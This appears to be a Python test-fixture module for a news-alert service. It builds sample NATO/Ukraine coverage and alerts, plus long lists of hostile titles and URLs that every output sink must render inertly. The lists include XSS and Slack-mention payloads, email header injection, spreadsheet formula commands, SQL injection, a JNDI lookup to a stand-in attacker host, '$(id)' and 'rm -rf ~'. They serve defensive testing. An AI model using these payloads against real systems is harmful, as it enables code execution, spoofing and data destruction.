from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any

from pydantic import TypeAdapter

from alerts.destinations import Destination, EmailTarget, SlackTarget
from alerts.model import Alert, Coverage, Decision, Excerpt, Priority

KEY = "d7f1c0a4e2b96b35d7f1c0a4e2b96b35"
NOW = datetime(2026, 11, 23, 12, 3, tzinfo=UTC)  # 14:03 in Kyiv

EDITOR = Destination(id="editor", email=EmailTarget(to=("editor@example.org",)))
DESK = Destination(id="desk", slack=SlackTarget(webhook="env:SLACK_WEBHOOK_URL"))
# they have a digest, as the loader makes it of a file
READERS = TypeAdapter(dict[str, Destination]).validate_python(
    {
        "editor": {"id": "editor", "email": {"to": "editor@example.org"}, "digest": {"at": "08:00"}},
        "desk": {"id": "desk", "slack": {"webhook": "env:SLACK_WEBHOOK_URL"}, "digest": {"at": "08:00"}},
    }
)

# What hostile outlets and accidents put into titles; every sink must show it and do nothing.
HOSTILE = (
    '<img src=x onerror="alert(1)">',
    "<script>alert(1)</script>",
    "</title></style><script>alert(1)</script>",
    "{{ 7 * 7 }} {% raw %} ${7*7}",
    '" onmouseover="alert(1)" x=\'',
    "<!channel> <!here> <!everyone> <@U012AB3CD> <#C012AB3CD>",
    "<!subteam^S012AB3CD> <!date^1392734382^{date}|soon>",
    "<https://evil.example/|nato.int>",
    "<mailto:boss@example.org|write>",
    "&lt;!channel&gt; &amp;lt;!here&amp;gt;",
    "*bold* _italic_ ~struck~ `code` ```block``` > quote",
    "a|b|c <x|y> [link](https://evil.example)",
    "Subject\r\nBcc: victim@example.org",
    "one\ntwo\rthree\x0bfour\x85five\u2028six\u2029seven",
    "\r\n\r\n<html>body</html>",
    "nul\x00byte and bell\x07",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b31m",
    "safe\u202egnp.exe \u2066hidden\u2069 \u200fright",
    "zero\u200bwidth\u2060joiner\ufeff soft\u00adhyphen",
    "=?utf-8?q?=0D=0ABcc:_victim@example.org?=",
    '=HYPERLINK("https://evil.example","click")',
    "javascript:alert(1)",
    "lone \ud800 surrogate \udfff",
    "&" * 500,
    "<" * 500,
    "*" * 500,
    "\\<!channel\\>",
    "й" * 2000,
    "🇺🇦👩‍🚒" * 300,
    "a" * 5000,
    "e\u0301" * 200,
    "\u200d\u200d",
    "<svg/onload=alert(1)><details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>click</a> <base href=//evil.example>",
    "&#x3c;script&#x3e;alert(1)&#60;/script&#62;",
    "--><style>*{background:url(//evil.example)}</style><!-- ]]>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "\x1b]8;;https://evil.example\x1b\\\\nato.int\x1b]8;;\x1b\\\\",
    "\x9b2J\x9b1;1H\x1bc\x1b[?1049h",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝HYPERLINK(1)",
    "![x](https://evil.example/x.png) [x](javascript:alert(1)) <https://evil.example>",
    "| a | b |\n|---|---|\n| <b>x</b> | y |",
    "# heading\n\n- [ ] item\n> quote\n```\ncode\n```",
    "@everyone @here #general :rotating_light: https://evil.example www.evil.example",
    "https://ukrіnform.net/a nаto.int",  # Cyrillic letters among Latin ones
    "пaypal Nаtо ЅBU",
    "%0d%0aBcc:%20victim@example.org %00",
    "a\u0300" * 400,
    "\u0430\u0338\u0321\u0337" * 100,
    "١٢٣ שלום مرحبا \u202b\u200e\u061c",
    "𝕳𝖊𝖑𝖑𝖔 ﷽ ＜script＞ ｛｛7*7｝｝",
    "\ufdd0\uffff\U000e0041\U000e007f",
    "x" * 3999 + "<",
    "'; DROP TABLE article; -- \\' OR 1=1",
    "${jndi:ldap://evil.example/a} $(id) `id` ; rm -rf ~",
    "",
    "   \t\n",
)

HOSTILE_URLS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "ftp://example.org/a",
    "//example.org/a",
    "https://nato.int@evil.example/",
    "https://user:password@evil.example/",
    "http://127.0.0.1\\@example.org/",
    "https://example.org/a\r\nBcc: x",
    "https://exa mple.org/",
    "https://example.org:port/",
    "https://[::1/",
    "https:///path",
    "https://",
    "https://evil.example/\u202egnp.exe",
    "https://example.org/" + "a" * 5000,
    "https://ex<ample.org/",
    "https://" + "й" * 80 + ".example/",
    "",
)


def make_coverage(**changes: Any) -> Coverage:
    base = Coverage(
        source="Ukrinform",
        kind="agency",
        url="https://www.ukrinform.ua/rubric-polytics/4059321-rutte-nazvav-dvi-umovi.html",
        title="Рютте назвав дві умови безпеки для України",
        language="uk",
        published=NOW - timedelta(minutes=5),
        first_seen=NOW - timedelta(minutes=1),
    )
    return replace(base, **changes)


def make_excerpt(text: str, *terms: str, **changes: Any) -> Excerpt:
    """The sentence with every one of `terms` marked where it first stands."""
    marks = sorted((text.index(term), text.index(term) + len(term)) for term in terms)
    return replace(Excerpt(text, tuple(marks)), **changes)


def make_alert(**changes: Any) -> Alert:
    sentence = (
        "Виступаючи у Брюсселі, Генеральний секретар НАТО Марк Рютте назвав дві умови: збройні сили, "
        "здатні стримати новий напад, і гарантії безпеки для України, які Москва не зможе ветувати."
    )
    base = Alert(
        watch="nato-on-ukraine",
        watch_name="NATO leadership on Ukraine",
        version="7",
        priority=Priority.HIGH,
        reason=Decision.FIRST_REPORT,
        story=48213,
        article=make_coverage(),
        excerpt=make_excerpt(sentence, "Марк Рютте", "гарантії безпеки", "України"),
        terms=("Марк Рютте", "гарантії безпеки", "України"),
    )
    return replace(base, **changes)


def make_other(minutes: int, source: str, title: str, **changes: Any) -> Coverage:
    """Another article of the story, seen `minutes` before NOW."""
    seen = NOW - timedelta(minutes=minutes)
    url = f"https://{source.lower().replace(' ', '-')}.example/{minutes}"
    settled: dict[str, Any] = {
        "source": source, "title": title, "url": url, "published": seen, "first_seen": seen,
        "language": "en", "kind": "outlet",
    }  # fmt: skip
    return make_coverage(**(settled | changes))
